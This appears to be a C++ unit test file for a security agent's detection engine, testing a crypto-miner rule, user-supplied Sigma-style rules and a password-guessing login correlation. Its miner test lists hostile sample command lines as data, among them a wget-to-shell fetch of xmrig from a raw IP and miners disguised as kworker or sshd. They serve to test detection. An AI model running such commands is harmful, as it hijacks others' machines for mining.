#include "detect/stream.h"

#include <atomic>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <set>
#include <thread>

#include <gtest/gtest.h>

#include "base/json.h"
#include "base/shared_testing.h"

namespace detect {
namespace {

constexpr std::string_view kMiner = "5d0c7c4e-3b0f-4a53-9a55-0d2a8c1c7e11";

class TempDir {
 public:
  TempDir() : path_(::testing::TempDir() + "detectXXXXXX") {
    EXPECT_NE(::mkdtemp(path_.data()), nullptr);
  }
  ~TempDir() { std::filesystem::remove_all(path_); }
  TempDir(const TempDir&) = delete;
  TempDir& operator=(const TempDir&) = delete;
  const std::string& path() const { return path_; }
  void write(const std::string& name, std::string_view text) const {
    std::ofstream(path_ + "/" + name) << text;
  }

 private:
  std::string path_;
};

schema::Event process(std::string executable, std::string command_line) {
  schema::ProcessCreate item;
  item.executable = std::move(executable);
  item.command_line = std::move(command_line);
  item.process_id = 4242;
  item.user_id = "0";
  item.user_name = "root";
  schema::Event event;
  event.id = base::Guid::derived("stream_test", item.command_line);
  event.payload = schema::payload_of(std::move(item));
  return event;
}

std::unique_ptr<Stream> load(const std::string& folder = {}) {
  auto stream = Stream::load(folder);
  EXPECT_TRUE(stream) << stream.error().to_string();
  return std::move(*stream);
}

// What the program carries has its own tests (tests/detections); here one of its rules stands for
// all, and what the others find is left out.
const std::set<std::string>& other_builtin_rules() {
  static const std::set<std::string> ids = [] {
    std::set<std::string> out;
    const auto stream = load();
    for (const ListedRule& rule : stream->list())
      out.insert(rule.info.id);
    out.erase(std::string(kMiner));
    return out;
  }();
  return ids;
}
std::size_t builtin_count() {
  return other_builtin_rules().size() + 1;
}

std::vector<Finding> findings(Stream& stream, const schema::Event& event) {
  std::vector<Finding> out;
  stream.match(event, 0, {"device-1", "agent", base::WallTime{}, 7}, out);
  std::erase_if(
      out, [](const Finding& finding) { return other_builtin_rules().contains(finding.rule.id); });
  return out;
}

TEST(Stream, BuiltInRulesAllLoad) {
  const auto stream = load();
  EXPECT_EQ(stream->problems().size(), 0U) << stream->problems().front().to_string();
  EXPECT_GE(stream->rules().size(), builtin_rules().size());
  for (const ListedRule& rule : stream->list()) {
    EXPECT_FALSE(rule.info.description.empty()) << rule.file << " " << rule.info.title;
    if (rule.part) continue;  // never raised by itself
    EXPECT_FALSE(rule.info.remediation.empty()) << rule.file << " " << rule.info.title;
  }
}

struct Command {
  const char* executable;
  const char* command_line;
};

TEST(CryptoCoinMiner, IsRaised) {
  const auto stream = load();
  for (const Command& command : std::initializer_list<Command>{
           {"/usr/bin/dash", "sh -c echo cpuminer-multi"},
           {"/usr/bin/bash", "bash -c echo cpuminer-multi"},
           {"/usr/bin/dash", "/bin/sh -c 'echo cpuminer-multi'"},
           {"/tmp/xmrig", "./xmrig -c config.json"},
           {"/opt/XMRig/xmrig-notls", "xmrig-notls"},
           {"/home/pi/minerd", "minerd -a scrypt -o http://pool.example:9327"},
           {"/var/tmp/cpuminer-avx2", "[kworker/0:1]"},
           {"/usr/local/bin/t-rex", "t-rex -a kawpow -o pool.example:4444 -u wallet"},
           {"/tmp/.X11/kworker",
            "/tmp/.X11/kworker -o stratum+tcp://pool.example.org:4444 -u 44AF"},
           {"/tmp/a", "a -o STRATUM+SSL://1.2.3.4:443"},
           {"/dev/shm/sshd", "sshd --donate-level=1 --url pool"},
           {"/dev/shm/x", "x --donate-level 1"},
           {"/tmp/k", "k --algo rx/0 --url pool.example:3333"},
           {"/tmp/k", "k -a cryptonight-lite -u w"},
           {"/usr/bin/apt-get", "apt-get install -y xmrig"},
           {"/usr/bin/nohup", "nohup /opt/.cache/xmrig"},
           {"/usr/bin/bash", "bash -c cd /tmp; ./xmrig & disown"},
           {"/usr/bin/bash", "bash -c grep -q model /proc/cpuinfo && /tmp/xmrig"},
           {"/usr/bin/dash", "sh -c \"wget -q http://198.51.100.7/xmrig|sh\""},
           {"/usr/bin/systemctl", "systemctl enable --now xmrig"},
           // What calls itself a searching tool but does not lie where those do.
           {"/tmp/grep", "grep -o stratum+tcp://pool.example:3333 -u w"}}) {
    const auto found = findings(*stream, process(command.executable, command.command_line));
    ASSERT_EQ(found.size(), 1U) << command.executable << " " << command.command_line;
    EXPECT_EQ(found[0].rule.id, kMiner);
    EXPECT_FALSE(found[0].evidence.matched.empty());
  }
}

TEST(CryptoCoinMiner, IsNotRaisedForLookAlikes) {
  const auto stream = load();
  for (const Command& command : std::initializer_list<Command>{
           {"/usr/bin/grep", "grep -r xmrig /var/log"},
           {"/usr/bin/dash", "sh -c grep -r xmrig /var/log"},
           {"/usr/bin/sudo", "sudo grep -rn stratum+tcp:// /etc"},
           {"/usr/bin/vim", "vim notes-about-cpuminer.txt"},
           {"/usr/bin/vim.basic", "vim cpuminer-multi"},
           {"/usr/bin/apt-get", "apt-get remove xmrig"},
           {"/usr/bin/apt-get", "apt-get purge -y xmrig"},
           {"/usr/bin/sudo", "sudo apt-get purge -y xmrig"},
           {"/usr/bin/dpkg",
            "/usr/bin/dpkg --status-fd 21 --no-triggers --force-depends --remove xmrig:amd64"},
           {"/usr/bin/dpkg", "dpkg -l xmrig"},
           {"/usr/bin/apt-cache", "apt-cache policy xmrig"},
           {"/usr/bin/dnf", "dnf -y erase xmrig"},
           {"/usr/bin/pgrep", "pgrep -f xmrig"},
           {"/usr/bin/pkill", "pkill -9 xmrig"},
           {"/usr/bin/rm", "rm -rf /opt/xmrig"},
           {"/usr/bin/find", "find / -name xmrig -type f"},
           {"/usr/bin/systemctl", "systemctl stop xmrig"},
           {"/usr/bin/systemctl", "systemctl disable --now xmrig"},
           {"/usr/bin/journalctl", "journalctl -u xmrig"},
           {"/usr/bin/man", "man xmrig"},
           {"/usr/bin/docker",
            "docker run -d --name miner-exporter registry.local/metrics/minerva:1.2"},
           {"/usr/bin/python3.11", "python3 /srv/minerdata/report.py --miner 3"},
           {"/usr/bin/tar", "tar xf cpuminer.tar.gz"},
           {"/usr/sbin/named", "named -u bind -4"},
           {"/usr/bin/gminerva", "gminerva --pool x"},
           {"/usr/bin/play", "play t-rex.wav"},
           {"/usr/bin/curl", "curl https://docs.example/--donate-levels"},
           {"/usr/bin/ssh", "ssh -o ServerAliveInterval=30 miner@host"},
           {"/usr/bin/ls", "ls -a cryptonight"},
           {"/usr/bin/node", "node determinerd.js"}}) {
    const auto found = findings(*stream, process(command.executable, command.command_line));
    EXPECT_EQ(found.size(), 0U) << command.executable << " " << command.command_line << "\n"
                                << (found.empty() ? "" : found[0].evidence.matched[0].pattern);
  }
}

TEST(Stream, AFindingSaysWhoWhatAndWhy) {
  const auto stream = load();
  const auto event = process("/usr/bin/dash", "sh -c echo cpuminer-multi");
  const auto found = findings(*stream, event);
  ASSERT_EQ(found.size(), 1U);
  const Finding& finding = found[0];
  EXPECT_EQ(finding.device_id, "device-1");
  EXPECT_EQ(finding.module_id, "agent");
  EXPECT_EQ(finding.entity, "/usr/bin/dash root");
  EXPECT_EQ(finding.sequence, 7U);
  EXPECT_EQ(finding.hits, 1);
  EXPECT_EQ(finding.rule.severity, Severity::Medium);
  EXPECT_EQ(finding.rule.techniques, std::vector<std::string>{"T1496.001"});
  EXPECT_EQ(finding.evidence.event_id, event.id);
  EXPECT_EQ(finding.evidence.event_name, "ProcessCreate");
  ASSERT_FALSE(finding.evidence.matched.empty());
  EXPECT_EQ(finding.evidence.matched[0].field, "CommandLine");
  EXPECT_EQ(finding.evidence.matched[0].value, "sh -c echo cpuminer-multi");
  EXPECT_EQ(finding.evidence.matched[0].found, "cpuminer-multi");
  EXPECT_TRUE(finding.why.ends_with("mines crypto currency. CommandLine has 'cpuminer-multi'."))
      << finding.why;
  const auto details = base::json::parse(finding.evidence.details_json);
  ASSERT_TRUE(details);
  EXPECT_EQ(details->text_or("CommandLine", ""), "sh -c echo cpuminer-multi");
}

TEST(Stream, TakesTheUsersRulesAndReportsBadOnes) {
  const TempDir dir;
  dir.write("a_good.yml",
            "title: Mine\nlogsource: {category: process_creation}\n"
            "detection: {s: {Image: /x}, condition: s}\n");
  dir.write("b_broken.yml",
            "title: Broken\nlogsource: {category: process_creation}\n"
            "detection: {s: {Imag: /x}, condition: s}\n");
  dir.write("c_other.yml",
            "title: Other\nlogsource: {product: windows}\ndetection: {s: {A: /x}, condition: s}\n");
  dir.write("d_noise.yml", "{{{{");
  dir.write("e_replaced.yml", "title: Quiet miner\nid: " + std::string(kMiner) +
                                  "\nlogsource: {category: process_creation}\n"
                                  "detection: {s: {Image: /never}, condition: s}\n");
  dir.write("readme.txt", "not a rule");
  const auto stream = load(dir.path());
  ASSERT_EQ(stream->problems().size(), 3U);
  EXPECT_EQ(
      stream->problems()[0].to_string().substr(dir.path().size()),
      "/b_broken.yml:3:17: expected a field of ProcessCreate or ExtraDetails.<name>, found 'Imag' "
      "(did you mean 'Image'?)");
  EXPECT_FALSE(stream->problems()[0].no_events);
  EXPECT_TRUE(stream->problems()[1].no_events);
  EXPECT_EQ(stream->problems()[2].line, 1);
  EXPECT_EQ(findings(*stream, process("/x", "x")).size(), 1U);
  EXPECT_EQ(findings(*stream, process("/tmp/xmrig", "xmrig")).size(), 0U)
      << "replaced by the user's";
}

TEST(Stream, FiltersAndListsOfTheFolder) {
  const TempDir dir;
  std::filesystem::create_directory(dir.path() + "/lists");
  dir.write("lists/shells.txt", "# ours\n/sh\n/bash\n");
  dir.write("lists/more.yml", "testers: [alice, bob]\nbroken: {}\n");
  dir.write("a.yml",
            "title: Mine\nlogsource: {category: process_creation}\n"
            "detection: {s: {Image|endswith|expand: '%shells%'}, condition: s}\n");
  // Before what it names, and for a rule of the program itself.
  dir.write("_filter.yml",
            "title: Exercise\nlogsource: {category: process_creation}\n"
            "filter:\n  rules: [" +
                std::string(kMiner) + "]\n  s: {CommandLine|contains: exercise}\n  condition: s\n");
  auto stream = load(dir.path());
  ASSERT_EQ(stream->problems().size(), 1U);
  EXPECT_EQ(stream->problems()[0].to_string().substr(dir.path().size()),
            "/lists/more.yml:2:9: expected 'broken' to be a list, found a map");
  EXPECT_EQ(findings(*stream, process("/bin/bash", "x")).size(), 1U);
  EXPECT_EQ(findings(*stream, process("/bin/dash", "x")).size(), 0U);
  EXPECT_EQ(findings(*stream, process("/tmp/xmrig", "xmrig")).size(), 1U);
  EXPECT_EQ(findings(*stream, process("/tmp/xmrig", "xmrig exercise")).size(), 0U);
}

TEST(Stream, ListsOfTheFolderAddToBuiltInOnes) {
  const TempDir dir;
  std::filesystem::create_directory(dir.path() + "/lists");
  dir.write("lists/malicious_domains.txt", "mine.example\n");
  dir.write("a.yml",
            "title: Mine\nlogsource: {category: process_creation}\n"
            "detection: {s: {CommandLine|expand: '%malicious_domains%'}, condition: s}\n");
  const auto stream = load(dir.path());
  EXPECT_TRUE(stream->problems().empty()) << stream->problems()[0].to_string();
  EXPECT_EQ(findings(*stream, process("/x", "mine.example")).size(), 1U);
  EXPECT_EQ(findings(*stream, process("/x", "badhost.test")).size(), 1U);
  EXPECT_EQ(findings(*stream, process("/x", "other.example")).size(), 0U);
}

schema::Event login(const std::string& user, schema::LoginResult result, int at) {
  schema::Login item;
  item.user_name = user;
  item.result = result;
  item.executable = "/usr/sbin/sshd";
  item.remote_address = "192.0.2.7";
  schema::Event event;
  event.id = base::Guid::derived("login", user + std::to_string(at));
  event.time.utc = base::WallTime(std::chrono::seconds(1'790'000'000 + at));
  event.payload = schema::payload_of(std::move(item));
  return event;
}

std::vector<Finding> findings_of(Stream& stream, const schema::Event& event,
                                 std::string_view device = "device-1") {
  std::vector<Finding> out;
  stream.match(event, 0, {device, "agent", event.time.utc, 7}, out);
  return out;
}

constexpr std::string_view kBreakIn = R"(title: Login failed
name: login_failed
logsource: {product: vedette, category: Login}
detection: {s: {Result: Fail}, condition: s}
---
title: Login succeeded
name: login_succeeded
logsource: {product: vedette, category: Login}
detection: {s: {Result: Success}, condition: s}
---
title: Password guessed
id: 3f0f5a1f-7c55-4a0c-9d6c-1b6a3b0e6a0c
name: guessing
level: low
correlation:
  type: event_count
  rules: [login_failed]
  group-by: [DeviceId, UserName]
  timespan: 10m
  condition: {gte: 3}
---
title: Broke in by guessing a password
level: high
correlation:
  type: temporal_ordered
  rules: [guessing, login_succeeded]
  group-by: [DeviceId, UserName]
  timespan: 10m
vedette:
  why: Somebody tried passwords until one was right.
  entity: [UserName]
)";

TEST(Stream, CorrelatesAcrossEvents) {
  const TempDir dir;
  dir.write("break_in.yml", kBreakIn);
  const auto stream = load(dir.path());
  EXPECT_TRUE(stream->problems().empty()) << stream->problems()[0].to_string();
  EXPECT_EQ(stream->rules().size(), builtin_count() + 4);
  using schema::LoginResult;
  int at = 0;
  EXPECT_TRUE(findings_of(*stream, login("root", LoginResult::Success, at)).empty());
  EXPECT_TRUE(findings_of(*stream, login("root", LoginResult::Fail, ++at)).empty());
  EXPECT_TRUE(findings_of(*stream, login("root", LoginResult::Fail, ++at)).empty());
  EXPECT_TRUE(findings_of(*stream, login("other", LoginResult::Fail, ++at)).empty());
  EXPECT_TRUE(findings_of(*stream, login("root", LoginResult::Fail, ++at), "device-2").empty());
  const auto guessing = findings_of(*stream, login("root", LoginResult::Fail, ++at));
  ASSERT_EQ(guessing.size(), 0U) << "it builds the other correlation of its file";
  const auto found = findings_of(*stream, login("root", LoginResult::Success, 9));
  ASSERT_EQ(found.size(), 1U);
  const Finding& finding = found[0];
  EXPECT_EQ(finding.rule.title, "Broke in by guessing a password");
  EXPECT_EQ(finding.rule.severity, Severity::High);
  EXPECT_EQ(finding.device_id, "device-1");
  EXPECT_EQ(finding.module_id, "agent");
  EXPECT_EQ(finding.entity, "root");
  EXPECT_EQ(finding.sequence, 7U);
  EXPECT_EQ(finding.evidence.event_id, login("root", LoginResult::Success, 9).id);
  ASSERT_EQ(finding.related.size(), 1U);
  EXPECT_EQ(finding.related[0].event_id, login("root", LoginResult::Fail, at).id);
  EXPECT_EQ(finding.why,
            "Somebody tried passwords until one was right. 2 events within 4 s with DeviceId "
            "device-1, UserName root.");
  ASSERT_GE(finding.evidence.matched.size(), 3U);
  EXPECT_EQ(finding.evidence.matched[0].field, "temporal_ordered");
  EXPECT_EQ(finding.evidence.matched[0].value, "2");
  EXPECT_EQ(finding.evidence.matched[0].pattern, "all 2 rules within 10m");
  EXPECT_EQ(finding.evidence.matched[1].value, "device-1");
  EXPECT_GT(stream->correlations().groups, 0U);
  EXPECT_GT(stream->correlations().bytes, 0U);
}

TEST(Stream, AReloadKeepsWhatCorrelationsRemember) {
  const TempDir dir;
  dir.write("break_in.yml", kBreakIn);
  const auto stream = load(dir.path());
  using schema::LoginResult;
  for (int at = 0; at < 2; ++at)
    EXPECT_TRUE(findings_of(*stream, login("root", LoginResult::Fail, at)).empty());
  // Another rule, and another level of the correlation.
  std::string changed(kBreakIn);
  changed.replace(changed.find("level: high"), 11, "level: medium");
  dir.write("break_in.yml", changed);
  dir.write("new.yml",
            "title: New\nlogsource: {product: vedette, category: Login}\n"
            "detection: {s: {UserName: newcomer}, condition: s}\n");
  ASSERT_TRUE(stream->reload());
  EXPECT_EQ(stream->rules().size(), builtin_count() + 5);
  EXPECT_EQ(findings_of(*stream, login("newcomer", LoginResult::Fail, 2)).size(), 1U);
  EXPECT_TRUE(findings_of(*stream, login("root", LoginResult::Fail, 3)).empty());
  const auto found = findings_of(*stream, login("root", LoginResult::Success, 4));
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].rule.severity, Severity::Medium);
  // What is taken away is gone, and so is what it remembered.
  std::filesystem::remove(dir.path() + "/break_in.yml");
  ASSERT_TRUE(stream->reload());
  EXPECT_TRUE(findings_of(*stream, login("root", LoginResult::Fail, 5)).empty());
  findings_of(*stream, login("newcomer", LoginResult::Fail, 6));
  EXPECT_EQ(stream->correlations().groups, 0U);
}

TEST(Stream, FollowsItsFolder) {
  const TempDir dir;
  std::filesystem::create_directory(dir.path() + "/lists");
  dir.write("lists/names.txt", "a\n");
  const auto stream = load(dir.path());
  EXPECT_FALSE(*stream->follow());
  dir.write("a.yml",
            "title: Mine\nlogsource: {product: vedette, category: Login}\n"
            "detection: {s: {UserName|expand: '%names%'}, condition: s}\n");
  EXPECT_FALSE(*stream->follow()) << "somebody may still be writing";
  EXPECT_TRUE(*stream->follow());
  EXPECT_FALSE(*stream->follow());
  EXPECT_EQ(findings_of(*stream, login("a", schema::LoginResult::Fail, 0)).size(), 1U);
  dir.write("lists/names.txt", "bob\n");
  EXPECT_FALSE(*stream->follow());
  EXPECT_TRUE(*stream->follow());
  EXPECT_EQ(findings_of(*stream, login("a", schema::LoginResult::Fail, 1)).size(), 0U);
  EXPECT_EQ(findings_of(*stream, login("bob", schema::LoginResult::Fail, 2)).size(), 1U);
}

TEST(Stream, IsReloadedWhileItMatches) {
  const TempDir dir;
  dir.write("break_in.yml", kBreakIn);
  const auto stream = load(dir.path());
  std::atomic<bool> done = false;
  std::thread other([&] {
    while (!done) {
      EXPECT_TRUE(stream->reload());
      EXPECT_EQ(stream->problems().size(), 0U);
    }
  });
  // Three failures and a success, again and again: each makes one finding, whatever happens
  // meanwhile.
  std::size_t found = 0;
  constexpr std::size_t kTimes = 300;
  for (std::size_t i = 0; i < kTimes; ++i) {
    for (int step = 0; step < 4; ++step) {
      const auto result = step < 3 ? schema::LoginResult::Fail : schema::LoginResult::Success;
      found += findings_of(*stream, login("root", result, static_cast<int>(i) * 4 + step)).size();
    }
  }
  done = true;
  other.join();
  EXPECT_EQ(found, kTimes);
}

TEST(Stream, WindowsAreJudgedWhenTimeHasPassed) {
  const TempDir dir;
  dir.write("few.yml",
            "title: Login\nname: any_login\nlogsource: {product: vedette, category: Login}\n"
            "detection: {s: {UserName|exists: true}, condition: s}\n---\n"
            "title: Hardly used\ncorrelation: {type: event_count, rules: any_login, group-by: "
            "ComputerName, timespan: 1h, condition: {lte: 2}}\n");
  const auto stream = load(dir.path());
  ASSERT_TRUE(stream->problems().empty()) << stream->problems()[0].to_string();
  EXPECT_TRUE(findings_of(*stream, login("a", schema::LoginResult::Success, 0), "quiet").empty());
  for (int i = 0; i < 3; ++i)
    EXPECT_TRUE(findings_of(*stream, login("a", schema::LoginResult::Success, i), "busy").empty());
  auto later = process("/bin/true", "true");
  later.time.utc = base::WallTime(std::chrono::seconds(1'790'000'000 + 4000));
  const auto found = findings_of(*stream, later);
  ASSERT_EQ(found.size(), 1U);
  EXPECT_EQ(found[0].rule.title, "Hardly used");
  EXPECT_EQ(found[0].device_id, "quiet");
  EXPECT_EQ(found[0].entity, "");
}

TEST(Stream, RefusesAnEntityThatIsNoField) {
  const TempDir dir;
  dir.write("a.yml",
            "title: Mine\nlogsource: {category: process_creation}\n"
            "detection: {s: {Image: /x}, condition: s}\nvedette: {entity: [Image, Usr]}\n");
  const auto stream = load(dir.path());
  ASSERT_EQ(stream->problems().size(), 1U);
  EXPECT_NE(stream->problems()[0].message.find("found 'Usr'"), std::string::npos);
  EXPECT_EQ(findings(*stream, process("/x", "x")).size(), 0U);
}

TEST(Stream, AnAbsentFolderIsFine) {
  EXPECT_EQ(load("/nonexistent/detections")->problems().size(), 0U);
}

// Cases of a catalogue of alerts, where somebody has put it.
TEST(CryptoCoinMiner, AgreesWithTheCatalogue) {
  const auto published = base::shared_data("corpora/agent_alert_cases.jsonl");
  if (!published)
    GTEST_SKIP() << "no corpora/agent_alert_cases.jsonl in VEDETTE_SHARED or ../shared";
  std::ifstream file(*published);
  const auto stream = load();
  std::string line;
  int cases = 0;
  int others = 0;
  while (std::getline(file, line)) {
    const auto test = base::json::parse(line);
    ASSERT_TRUE(test);
    const auto* event = test->find("event");
    if (event == nullptr || event->text_or("Name", "") != "ProcessCreate") continue;
    const auto* payload = event->find("Payload");
    const auto found = findings(*stream, process(std::string(payload->text_or("Executable", "")),
                                                 std::string(payload->text_or("CommandLine", ""))));
    const std::string alert(test->text_or("alert", ""));
    if (alert == "Crypto coin miner image") {
      ++cases;
      EXPECT_EQ(found.size(), *test->find("positive")->if_bool() ? 1U : 0U) << line;
    } else if (alert != "Crypto coin miner container image detected") {
      ++others;
      EXPECT_EQ(found.size(), 0U) << line;
    }
  }
  EXPECT_GE(cases, 2);
  EXPECT_GE(others, 50);
}

}  // namespace
}  // namespace detect
